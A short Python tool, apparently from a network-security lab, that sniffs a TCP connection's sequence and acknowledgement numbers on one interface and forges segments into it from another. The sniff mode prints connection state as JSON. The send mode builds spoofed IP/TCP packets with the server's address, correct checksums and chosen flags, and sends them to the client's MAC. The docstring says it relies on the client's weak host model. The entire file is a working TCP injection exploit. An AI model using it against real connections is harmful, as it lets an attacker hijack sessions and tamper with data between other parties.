"""Blind no more: sees a TCP connection's sequence numbers on one link and writes into it from another.

`inject.py sniff DEVICE PORT` prints, as JSON lines, where a connection to PORT stands whenever a
segment passes. `inject.py send DEVICE MAC` reads such a line on standard input, with "data" in
hexadecimal and, where it is to be another than ACK and PSH, "set", the flags, and sends one segment from the server's address to the client's, in a frame for MAC: the
client's weak host model takes it in although it comes over the wrong device.
"""

import json
import socket
import struct
import sys

import common

ETH_P_IP = 0x0800
ACK_PSH = 0x18


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack(f">{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def sniff(device, port):
    sock = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(ETH_P_IP))
    sock.bind((device, ETH_P_IP))
    common.say(event="sniffing")
    while True:
        packet = sock.recv(65536)
        head = (packet[0] & 15) * 4
        if packet[9] != socket.IPPROTO_TCP:
            continue
        total = struct.unpack(">H", packet[2:4])[0]
        sport, dport, seq, ack, offset, flags = struct.unpack(">HHIIBB", packet[head:head + 14])
        length = total - head - (offset >> 4) * 4 + bool(flags & 2) + bool(flags & 1)
        if dport == port:  # the client speaks: what it expects next is its acknowledgement
            common.say(event="segment", client=socket.inet_ntoa(packet[12:16]), sport=sport,
                       server=socket.inet_ntoa(packet[16:20]), dport=dport, flags=flags,
                       client_next=(seq + length) & 0xFFFFFFFF, server_next=ack)


def send(device, mac):
    at = json.loads(sys.stdin.readline())
    data = bytes.fromhex(at["data"])
    source, target = socket.inet_aton(at["server"]), socket.inet_aton(at["client"])
    tcp = struct.pack(">HHIIBBHHH", at["dport"], at["sport"], at["server_next"],
                      at["client_next"], 5 << 4, at.get("set", ACK_PSH), 65000, 0, 0) + data
    pseudo = source + target + struct.pack(">BBH", 0, socket.IPPROTO_TCP, len(tcp))
    tcp = tcp[:16] + struct.pack(">H", checksum(pseudo + tcp)) + tcp[18:]
    ip = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), 1, 0, 64, socket.IPPROTO_TCP, 0,
                     source, target)
    ip = ip[:10] + struct.pack(">H", checksum(ip)) + ip[12:]
    sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_IP))
    sock.bind((device, ETH_P_IP))
    own = sock.getsockname()[4]
    sock.send(bytes.fromhex(mac.replace(":", "")) + own + struct.pack(">H", ETH_P_IP) + ip + tcp)
    common.say(event="sent", bytes=len(data))


if __name__ == "__main__":
    if sys.argv[1] == "sniff":
        sniff(sys.argv[2], int(sys.argv[3]))
    else:
        send(sys.argv[2], sys.argv[3])
